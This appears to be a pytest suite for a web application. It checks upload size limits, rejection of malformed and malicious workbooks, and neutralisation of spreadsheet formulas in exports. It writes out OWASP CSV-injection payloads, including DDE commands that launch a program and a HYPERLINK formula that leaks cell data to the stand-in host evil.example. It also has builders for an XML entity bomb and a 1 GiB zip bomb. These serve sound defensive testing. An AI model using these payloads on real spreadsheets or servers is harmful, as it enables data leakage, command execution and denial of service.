"""Request bodies are bounded before they are read (413 `too_large`, also for chunked bodies), workbooks before they
are unpacked (a zip bomb, XML entities, a truncated file: 4xx naming the file), and every CSV and XLSX the product
writes carries names that look like formulas as text.

The memory bound and the chunked body are measured on a real server process (`controlplane serve` on a free port
with its own SQLite database), the rest in-process on SQLite and PostgreSQL.
"""
# ruff: noqa: F811  (pytest fixtures imported from migration_support are parameters of the tests)

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import select
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest
import yaml
from conftest import PASSWORD
from migration_support import agencies, operator, upload  # noqa: F401  (fixtures)
from openpyxl import Workbook, load_workbook
from servers import free_port, server_env

from controlplane.app import create_app
from controlplane.config import Settings
from controlplane.inventory import files

MiB = 1024 * 1024
IMPORT = "/api/v1/compliance/sessions/import"
SYSTEMS_IMPORT = "/api/v1/systems/import"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET = "xl/worksheets/sheet1.xml"
# What a spreadsheet would run: the OWASP CSV-injection examples, and each character that starts a formula.
EVIL = {
    "cmd": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
SERVER_START_SECONDS = 60
MEMORY_BOUND = 300 * MiB


@pytest.fixture
def admin(client, catalogue, login):
    return login("admin1", "admin")


def _workbook(rows: list[list[Any]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _with_sheet(content: bytes, sheet_xml: bytes) -> bytes:
    """The workbook with its first sheet's XML replaced (every other member kept)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, sheet_xml if info.filename == SHEET else source.read(info.filename))
    return out.getvalue()


SESSIONS = [["meeting_code", "held_on", "mode"], ["MOIS-LOCAL", "2014-01-10", "video"]]
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
              b'<row r="1"><c r="A1" t="inlineStr"><is><t>meeting_code</t></is></c>'
              b'<c r="B1" t="inlineStr"><is><t>held_on</t></is></c><c r="C1" t="inlineStr"><is><t>mode</t></is></c>'
              b'</row><row r="2"><c r="A2" t="inlineStr"><is><t>')
SHEET_TAIL = b"</t></is></c></row></sheetData></worksheet>"


def write_xlsx_bomb(path: Path, unpacked: int) -> None:
    """A real workbook whose first sheet holds one cell of `unpacked` bytes of 'A': about unpacked/1000 on disk."""
    base = _workbook(SESSIONS)
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != SHEET:
                target.writestr(info.filename, source.read(info.filename))
                continue
            with target.open(SHEET, "w", force_zip64=True) as sheet:
                sheet.write(SHEET_HEAD)
                block = b"A" * MiB
                for _ in range(unpacked // MiB):
                    sheet.write(block)
                sheet.write(SHEET_TAIL)


def _import(client, headers, name: str, content: bytes, media_type: str = XLSX_TYPE):
    return client.post(IMPORT, headers=headers, files={"file": (name, content, media_type)})


def _refused_naming_the_file(response: httpx.Response, name: str, status: int = 422) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body: dict[str, Any] = response.json()
    assert body["field"] == "file" and name in body["message"], body
    return body


# --- the request body limit -------------------------------------------------------------------------------

def test_a_file_over_the_upload_limit_is_413_before_any_route_reads_it(client, admin, operator):
    big = b"meeting_code,held_on,mode\n" + b"x" * (11 * MiB)
    for path, headers in ((IMPORT, admin), (SYSTEMS_IMPORT, operator)):
        response = client.post(path, headers=headers, files={"file": ("big.csv", big, "text/csv")})
        assert response.status_code == 413, response.text
        body = response.json()
        assert (body["code"], body["field"]) == ("too_large", "file")
        assert "10 MiB" in body["message"]
    # The limit is the file's: a file of exactly 10 MiB passes with its multipart framing, one byte more does not.
    exact = b"meeting_code,held_on,mode\n" + b"x" * (10 * MiB - 26)
    assert _import(client, admin, "exact.csv", exact, "text/csv").status_code == 422  # read, then refused as CSV
    over = _import(client, admin, "over.csv", exact + b"x", "text/csv")
    assert (over.status_code, over.json()["code"], over.json()["field"]) == (413, "too_large", "file")


def _job_with_200_hosts() -> dict[str, Any]:
    """A generous real job: 200 hosts, each with role groups and a few kilobytes of variables."""
    host_vars = {f"app_setting_{i}": "x" * 100 for i in range(16)}
    hosts = [{"name": f"web-{i}", "address": f"10.80.{i // 250}.{i % 250 + 1}", "groups": ["tomcat", "nginx"],
              "vars": host_vars} for i in range(200)]
    return {"playbook": "no-such-playbook.yml", "credential": "none", "hosts": hosts,
            "extravars": {"site_config": "y" * 100_000}}


def test_other_bodies_get_the_general_limit_and_the_largest_real_ones_fit(client, admin):
    refused = client.post("/api/v1/auth/token", content=json.dumps({"username": "x" * (2 * MiB), "password": "y"}),
                          headers={"Content-Type": "application/json"})
    assert refused.status_code == 413, refused.text
    assert refused.json()["code"] == "too_large"

    job = _job_with_200_hosts()
    assert 500_000 < len(json.dumps(job)) < MiB
    assert client.post("/api/v1/jobs", headers=admin, json=job).status_code == 422  # read whole, then validated
    credential = {"private_key": "k" * 16384, "known_hosts": "h" * 65536, "description": "d" * 200}
    assert client.put("/api/v1/credentials/big-keys", headers=admin, json=credential).status_code == 422


def _drive(app: Any, path: str, chunks: int, chunk: bytes, content_type: bytes) -> tuple[int, dict[str, Any], int]:
    """POST `chunks` x `chunk` to the ASGI app as a chunked body (no Content-Length): the status and body it
    answers, and how many chunks it pulled."""
    pulled = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if pulled == chunks:
            return {"type": "http.request", "body": b"", "more_body": False}
        pulled += 1
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
             "headers": [(b"host", b"testserver"), (b"transfer-encoding", b"chunked"),
                         (b"content-type", content_type)],
             "client": ("127.0.0.1", 50000), "server": ("testserver", 80)}
    asyncio.run(app(scope, receive, send))
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return status, json.loads(body), pulled


def test_a_chunked_body_is_counted_as_it_streams_and_cut_off_at_the_limit(settings: Settings):
    app = create_app(settings)
    preamble = (b'--b0undary\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
                b"Content-Type: text/csv\r\n\r\n")
    status, body, pulled = _drive(app, IMPORT, 64, preamble + b"x" * (MiB - len(preamble)),
                                  b"multipart/form-data; boundary=b0undary")
    assert (status, body["code"], body["field"]) == (413, "too_large", "file")
    assert pulled <= 11  # 10 MiB and the chunk that went over: the other 53 MiB were never read
    status, body, pulled = _drive(app, "/api/v1/auth/token", 64, b" " * (256 * 1024), b"application/json")
    assert (status, body["code"]) == (413, "too_large")
    assert pulled <= 5


# --- workbooks ---------------------------------------------------------------------------------------------

def test_a_truncated_workbook_is_422_naming_the_file(client, admin):
    good = _workbook(SESSIONS)
    _refused_naming_the_file(_import(client, admin, "half.xlsx", good[: len(good) // 2]), "half.xlsx")
    sheet = _with_sheet(good, SHEET_HEAD + b"MOIS-LOCAL</t></is></c></row><row r=")  # the sheet's XML cut
    _refused_naming_the_file(_import(client, admin, "cut-sheet.xlsx", sheet), "cut-sheet.xlsx")
    bad_number = _with_sheet(good, SHEET_HEAD.replace(b't="inlineStr"><is><t>meeting_code</t></is>',
                                                      b't="n"><v>not a number</v>') + b"x" + SHEET_TAIL)
    _refused_naming_the_file(_import(client, admin, "bad-number.xlsx", bad_number), "bad-number.xlsx")


def test_xml_entities_in_a_workbook_are_refused(client, admin):
    doctype = b'<!DOCTYPE worksheet [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b"]>"
    laughs = SHEET_HEAD.replace(b"?><worksheet", b"?>" + doctype + b"<worksheet") + b"&lol9;" + SHEET_TAIL
    body = _refused_naming_the_file(_import(client, admin, "laughs.xlsx", _with_sheet(_workbook(SESSIONS), laughs)),
                                    "laughs.xlsx")
    assert "entit" in body["message"].lower()
    # One small entity, far below any amplification limit of the XML parser: refused all the same.
    small = SHEET_HEAD.replace(b"?><worksheet", b'?><!DOCTYPE worksheet [<!ENTITY m "MOIS-LOCAL">]><worksheet')
    one = _with_sheet(_workbook(SESSIONS), small + b"&m;" + SHEET_TAIL)
    assert "entit" in _refused_naming_the_file(_import(client, admin, "one.xlsx", one), "one.xlsx")["message"].lower()


# --- exports neutralise formulas ---------------------------------------------------------------------------

@pytest.fixture
def evil_names(client, admin):
    """MOIS's two meetings and the agency MOEF named like formulas, with held sessions (numbers in the rows)."""
    api = "/api/v1/compliance"
    for code, names in (("MOIS-LOCAL", {"name_ko": EVIL["cmd"], "name_en": EVIL["link"]}),
                        ("MOIS-SAFETY", {"name_ko": EVIL["plus"], "name_en": EVIL["at"]})):
        assert client.patch(f"{api}/meetings/{code}", headers=admin, json=names).status_code == 200
    response = client.patch("/api/v1/agencies/MOEF", headers=admin, json={"name_ko": EVIL["minus"],
                                                                         "name_en": "\t=1+2"})
    assert response.status_code == 200, response.text
    for meeting, day in (("MOIS-LOCAL", "2014-01-15"), ("MOIS-SAFETY", "2014-02-15"), ("MOEF-ECON", "2014-03-15")):
        created = client.post(f"{api}/sessions", headers=admin,
                              json={"meeting": meeting, "held_on": day, "mode": "video", "status": "held"})
        assert created.status_code == 201, created.text
    return admin


def _csv_records(text: str) -> dict[str, dict[str, str]]:
    return {r["key"]: r for r in csv.DictReader(io.StringIO(text))}


def test_report_csv_and_xlsx_carry_formula_names_as_text(client, evil_names):
    params = {"period": "2014", "ministry": "MOIS"}
    text = client.get("/api/v1/compliance/report", headers=evil_names, params={**params, "format": "csv"}).text
    records = _csv_records(text)
    assert (records["MOIS-LOCAL"]["name_ko"], records["MOIS-LOCAL"]["name_en"]) == ("'" + EVIL["cmd"],
                                                                                   "'" + EVIL["link"])
    assert (records["MOIS-SAFETY"]["name_ko"], records["MOIS-SAFETY"]["name_en"]) == ("'" + EVIL["plus"],
                                                                                     "'" + EVIL["at"])
    assert (records["MOIS-LOCAL"]["held"], records["MOIS-LOCAL"]["share"]) == ("1", "1.0")  # numbers stay numbers

    content = client.get("/api/v1/compliance/report", headers=evil_names, params={**params, "format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]  # not read-only: cells keep their data_type
    header = [c.value for c in sheet[1]]
    rows = {row[header.index("key")].value: row for row in sheet.iter_rows(min_row=2)}
    for key, column, value in (("MOIS-LOCAL", "name_ko", EVIL["cmd"]), ("MOIS-LOCAL", "name_en", EVIL["link"]),
                               ("MOIS-SAFETY", "name_ko", EVIL["plus"]), ("MOIS-SAFETY", "name_en", EVIL["at"])):
        cell = rows[key][header.index(column)]
        assert (cell.data_type, cell.value) == ("s", "'" + value), (key, column)
    held = rows["MOIS-LOCAL"][header.index("held")]
    assert (held.data_type, held.value) == ("n", 1)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_public_open_data_csv_carries_formula_names_as_text(client, evil_names):
    response = client.get("/api/v1/open-data/remote-meetings", params={"period": "2014", "format": "csv"})
    assert response.status_code == 200
    moef = _csv_records(response.text)["MOEF"]
    assert (moef["name_ko"], moef["name_en"]) == ("'" + EVIL["minus"], "'\t=1+2")
    assert (moef["held"], moef["video"]) == ("1", "1")


def test_the_systems_export_carries_formula_names_as_text_and_imports_back(client, operator):
    source = yaml.safe_dump({"systems": [
        {"code": "sys-evil", "agency": "MOIS", "name_ko": EVIL["cmd"], "name_en": EVIL["link"], "criticality": "low",
         "vcpus": 2, "ram_mb": 2048, "disk_gb": 20, "notes": EVIL["at"],
         "components": [{"kind": "os", "vendor": "IBM", "product": "AIX", "version": "7.1"}]},
        {"code": "sys-plain", "agency": "MOIS", "name_ko": EVIL["plus"], "name_en": EVIL["minus"],
         "criticality": "low", "vcpus": 1, "ram_mb": 1024, "disk_gb": 10, "notes": "'=quoted by hand",
         "components": [{"kind": "os", "vendor": "IBM", "product": "AIX", "version": "7.1"}]},
    ]}, allow_unicode=True, sort_keys=False)
    assert upload(client, operator, "evil.yaml", source).status_code == 200
    exported = client.get("/api/v1/systems/export", headers=operator, params={"format": "csv"})
    assert exported.status_code == 200
    records = {r["code"]: r for r in csv.DictReader(io.StringIO(exported.text))}
    assert (records["sys-evil"]["name_ko"], records["sys-evil"]["name_en"], records["sys-evil"]["notes"]) == \
        ("'" + EVIL["cmd"], "'" + EVIL["link"], "'" + EVIL["at"])
    assert (records["sys-plain"]["name_ko"], records["sys-plain"]["name_en"], records["sys-plain"]["notes"]) == \
        ("'" + EVIL["plus"], "'" + EVIL["minus"], "''=quoted by hand")
    assert records["sys-evil"]["vcpus"] == "2"

    assert files.read_inventory("systems.csv", exported.content) == files.read_inventory("evil.yaml", source)
    again = upload(client, operator, "systems.csv", exported.content, mode="replace")
    assert again.status_code == 200, again.text
    assert again.json()["counts"] == {"created": 0, "updated": 0, "unchanged": 2, "deleted": 0}
    as_yaml = client.get("/api/v1/systems/export", headers=operator, params={"format": "yaml"}).text
    assert yaml.safe_load(as_yaml)["systems"][0]["name_ko"] == EVIL["cmd"]  # YAML is not a spreadsheet: as stored


# --- a real server process: memory and the chunked body ----------------------------------------------------

@dataclass(frozen=True)
class Server:
    url: str
    port: int
    pid: int
    token: str
    log: Path


def _env(data_dir: Path) -> dict[str, str]:
    return server_env(data_dir, env="test", workflows="false", cloud="", metrics_refresh_seconds="3600")


def _cli(data_dir: Path, *args: str, stdin: str | None = None) -> None:
    result = subprocess.run([sys.executable, "-m", "controlplane", *args], cwd=data_dir, env=_env(data_dir),
                            input=stdin, capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 0, f"controlplane {' '.join(args)}: {result.stdout}\n{result.stderr}"


def _wait_healthy(url: str, process: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + SERVER_START_SECONDS
    while time.monotonic() < deadline:
        if process.poll() is not None:
            pytest.fail(f"the server exited with {process.returncode}:\n{log.read_text(errors='replace')}")
        try:
            if httpx.get(f"{url}/healthz", timeout=2).status_code == 200:
                return
        except httpx.TransportError:
            pass
        time.sleep(0.2)
    pytest.fail(f"the server did not answer /healthz within {SERVER_START_SECONDS} s:\n"
                f"{log.read_text(errors='replace')}")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    data_dir = tmp_path_factory.mktemp("upload-server")
    _cli(data_dir, "db", "upgrade")
    _cli(data_dir, "users", "create", "--username", "uploader", "--role", "admin", "--password-stdin",
         stdin=PASSWORD + "\n")
    port = free_port()
    log = data_dir / "server.log"
    with log.open("wb") as handle:
        process = subprocess.Popen([sys.executable, "-m", "controlplane", "serve", "--host", "127.0.0.1",
                                    "--port", str(port)], cwd=data_dir, env=_env(data_dir), stdout=handle,
                                   stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        _wait_healthy(url, process, log)
        token = httpx.post(f"{url}/api/v1/auth/token", json={"username": "uploader", "password": PASSWORD},
                           timeout=30).json()["access_token"]
        yield Server(url, port, process.pid, token, log)
    finally:
        if process.poll() is None:
            os.kill(process.pid, 15)
            try:
                process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                os.kill(process.pid, 9)
                process.wait(timeout=15)


class PeakRss:
    """The highest resident set size of a process, sampled in a thread until stopped."""

    def __init__(self, pid: int) -> None:
        self._process = psutil.Process(pid)
        self.peak = self._process.memory_info().rss
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, self._process.memory_info().rss)
            self._stop.wait(0.005)

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, self._process.memory_info().rss)


@pytest.fixture(scope="module")
def xlsx_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "sessions.xlsx"
    write_xlsx_bomb(path, 1024 * MiB)
    return path


def test_an_xlsx_bomb_is_refused_without_unpacking_it(server: Server, xlsx_bomb: Path, timings: list[str]):
    content = xlsx_bomb.read_bytes()
    with zipfile.ZipFile(xlsx_bomb) as archive:
        assert archive.getinfo(SHEET).file_size > 1000 * MiB and len(content) < 2 * MiB
    headers = {"Authorization": f"Bearer {server.token}"}
    with httpx.Client(base_url=server.url, headers=headers, timeout=300) as http:
        # The same route once with a small workbook first, so what it loads for any upload is in the baseline.
        warm = http.post(IMPORT, files={"file": ("warm.xlsx", _workbook(SESSIONS), XLSX_TYPE)})
        assert warm.status_code in (200, 422), warm.text
        baseline = psutil.Process(server.pid).memory_info().rss
        started = time.monotonic()
        with PeakRss(server.pid) as rss:
            response = http.post(IMPORT, files={"file": ("bomb.xlsx", content, XLSX_TYPE)})
        seconds = time.monotonic() - started
    growth = rss.peak - baseline
    timings.append(f"1 GiB-unpacking XLSX ({len(content) / MiB:.1f} MiB): {response.status_code} after "
                   f"{seconds:.2f} s, server RSS +{growth / MiB:.1f} MiB (baseline {baseline / MiB:.0f} MiB)")
    print(timings[-1])
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["field"] == "file" and "bomb.xlsx" in response.json()["message"]
    assert growth < MEMORY_BOUND, f"the server grew by {growth / MiB:.0f} MiB"


def _read_response(sock: socket.socket) -> tuple[int, dict[str, Any]]:
    """The status and JSON body of the HTTP response on the socket (read up to the server closing it)."""
    data = b""
    while True:
        try:
            piece = sock.recv(65536)
        except ConnectionResetError:
            break
        if not piece:
            break
        data += piece
        head, _, body = data.partition(b"\r\n\r\n")
        length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n")
                       if line.lower().startswith(b"content-length:")), None)
        if length is not None and len(body) >= length:
            break
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split(b" ")[1]), json.loads(body)


def test_a_chunked_upload_over_the_limit_is_cut_off_without_being_read(server: Server, timings: list[str]):
    total = 64 * MiB
    boundary = "b0undary"
    head = (f"POST {IMPORT} HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\nAuthorization: Bearer {server.token}\r\n"
            f"Content-Type: multipart/form-data; boundary={boundary}\r\nTransfer-Encoding: chunked\r\n\r\n").encode()
    part = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
            "Content-Type: text/csv\r\n\r\nmeeting_code,held_on,mode\r\n").encode()
    block = b"MOIS-LOCAL,2014-01-10,video\n" * (MiB // 28)

    def chunked(data: bytes) -> bytes:
        return b"%x\r\n%s\r\n" % (len(data), data)

    pieces = [head + chunked(part)] + [chunked(block)] * (total // len(block)) + [
        chunked(f"\r\n--{boundary}--\r\n".encode()) + b"0\r\n\r\n"]
    sent = 0
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as sock:
        pending = memoryview(b"")
        answered = False
        while pieces or pending:
            readable, writable, _ = select.select([sock], [sock], [], 60)
            if readable:
                answered = True  # the server answered before the body ended: stop sending
                break
            if not writable:
                break
            if not pending:
                pending = memoryview(pieces.pop(0))
            try:
                count = sock.send(pending)
            except (BrokenPipeError, ConnectionResetError):
                answered = True
                break
            sent += count
            pending = pending[count:]
        status, body = _read_response(sock)
    timings.append(f"chunked 64 MiB upload: {status} after {sent / MiB:.1f} MiB sent")
    print(timings[-1])
    assert (status, body["code"], body["field"]) == (413, "too_large", "file"), body
    assert answered and sent < total / 2, f"{sent / MiB:.1f} MiB were sent"
